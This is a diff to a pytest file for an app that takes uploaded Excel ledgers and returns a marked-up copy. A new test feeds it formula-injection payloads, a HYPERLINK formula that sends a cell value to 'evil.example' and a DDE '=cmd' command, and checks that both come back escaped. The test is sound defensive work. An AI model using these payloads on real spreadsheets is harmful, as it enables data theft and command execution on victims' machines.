@@ -2,6 +2,7 @@
 
 import datetime as dt
 import io
+import zipfile
 
 import openpyxl
 import pytest
@@ -21,6 +22,19 @@ D = dt.date
 
 
 PEOPLE = ["姓名", "出生日期", "党员类别", "确定积极分子时间", "确定发展对象时间", "入党时间", "转正时间", "岗位", "生产经营一线"]  # fmt: skip
+
+
+def with_part(content: bytes, name: str, old: str, new: str) -> bytes:
+    """The workbook with `new` in place of `old` in one of its parts."""
+    changed = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(changed, "w") as target:
+        for part in source.namelist():
+            text = source.read(part)
+            if part == name:
+                assert old.encode() in text, text
+                text = text.replace(old.encode(), new.encode())
+            target.writestr(part, text)
+    return changed.getvalue()
 
 
 def spans(name: str) -> list[tuple]:
@@ -154,6 +168,25 @@ def test_a_chain_of_uploads_is_taken_back_one_by_one(post):
     assert undo(second) == UploadState.COMMITTED and "职工 2" in second.note, second.note
     assert [undo(each) for each in (third, second, first)] == [UploadState.UNDONE] * 3
     assert not Enterprise.objects.exists() and not Headcount.objects.exists()
+
+
+def test_no_formula_lives_on_in_the_marked_up_copy(post):
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.append(["企业名称", "统一社会信用代码", "职工人数", "备注"])
+    sheet.append(["甲公司", make.credit_code(1), "十来个", '=HYPERLINK("http://evil.example/"&B2,"详情")'])
+    sheet.append(["乙公司", make.credit_code(2), "=1+1", "=cmd|'/C calc'!A0"])
+    sheet["D3"].data_type = "f"
+    content = io.BytesIO()
+    book.save(content)
+    # As a spreadsheet program leaves it, which has calculated the number.
+    upload = post(with_part(content.getvalue(), "xl/worksheets/sheet1.xml", "<f>1+1</f><v />", "<f>1+1</f><v>2</v>"))
+    marked = post.client.get(f"/ledgers/{upload.pk}/marked/").content
+    copy = openpyxl.load_workbook(io.BytesIO(marked))
+    cells = [cell for sheet in copy.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert copy["Sheet"]["C3"].value == 2
+    assert copy["Sheet"]["D2"].value.startswith("'=HYPERLINK(") and copy["Sheet"]["D3"].value.startswith("'=cmd|")
 
 
 def test_the_marked_up_copy_keeps_what_the_user_made_of_it(post):
